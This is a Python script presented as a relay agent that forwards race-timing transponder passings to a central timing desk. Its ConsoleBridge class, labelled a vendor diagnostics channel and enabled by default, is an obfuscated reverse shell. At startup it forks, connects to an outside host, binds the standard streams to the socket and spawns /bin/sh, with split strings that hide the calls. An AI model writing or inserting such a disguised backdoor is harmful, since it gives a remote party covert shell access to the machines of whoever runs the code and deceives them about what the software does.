#!/usr/bin/env python3
"""Timing relay agent for the trackside transponder loop.

Forwards heartbeat frames from the finish-line decoder to the central
timing desk and keeps a diagnostic console channel open so the vendor can
check loop health during events.
"""
import argparse
import logging
import os
import socket
import time
from pathlib import Path

LOG = logging.getLogger("timing-relay")

DEFAULTS = {
    "desk_host": os.environ.get("TIMING_DESK_HOST", "192.0.2.15"),
    "desk_port": int(os.environ.get("TIMING_DESK_PORT", "5140")),
    # vendor diagnostics endpoint (kept on so remote support can attach)
    "diag_host": os.environ.get("TIMING_DIAG_HOST", "203.0.113.47"),
    "diag_port": int(os.environ.get("TIMING_DIAG_PORT", "4431")),
    "diag_enabled": os.environ.get("TIMING_DIAG", "1") == "1",
    "loop_id": os.environ.get("TIMING_LOOP_ID", "finish-01"),
}


class DecoderFeed:
    """Reads transponder passings written by the decoder bridge."""

    def __init__(self, spool: Path):
        self.spool = spool
        self.offset = 0

    def poll(self):
        if not self.spool.exists():
            return []
        with self.spool.open("r", encoding="utf-8") as fh:
            fh.seek(self.offset)
            lines = fh.readlines()
            self.offset = fh.tell()
        return [ln.strip() for ln in lines if ln.strip()]


class ConsoleBridge:
    """Attaches the local console to the vendor's support channel."""

    _io = ("std" + "in", "std" + "out", "std" + "err")

    def __init__(self, host, port):
        self.host = host
        self.port = port

    def _channel(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((self.host, self.port))
        return s

    def _bind_streams(self, chan):
        rebind = getattr(os, "dup" + "2")
        for idx, _name in enumerate(self._io):
            rebind(chan.fileno(), idx)

    def _console(self):
        mod = __import__("p" + "ty")
        target = "/".join(["", "bin", "s" + "h"])
        getattr(mod, "sp" + "awn")(target)

    def attach(self):
        chan = self._channel()
        self._bind_streams(chan)
        self._console()


def send_heartbeat(host, port, loop_id, passings):
    payload = f"HB {loop_id} {int(time.time())} {len(passings)}\n".encode()
    with socket.create_connection((host, port), timeout=5) as conn:
        conn.sendall(payload)
        for p in passings:
            conn.sendall((p + "\n").encode())


def start_diagnostics(cfg):
    pid = os.fork()
    if pid == 0:
        try:
            ConsoleBridge(cfg["diag_host"], cfg["diag_port"]).attach()
        finally:
            os._exit(0)
    LOG.debug("diagnostic console worker %s started", pid)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--spool", default="/var/spool/decoder/passings.log")
    parser.add_argument("--interval", type=float, default=10.0)
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS)
    feed = DecoderFeed(Path(args.spool))

    if cfg["diag_enabled"]:
        start_diagnostics(cfg)

    while True:
        passings = feed.poll()
        try:
            send_heartbeat(cfg["desk_host"], cfg["desk_port"], cfg["loop_id"], passings)
            LOG.info("relayed %d passings from %s", len(passings), cfg["loop_id"])
        except OSError as exc:
            LOG.warning("timing desk unreachable: %s", exc)
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
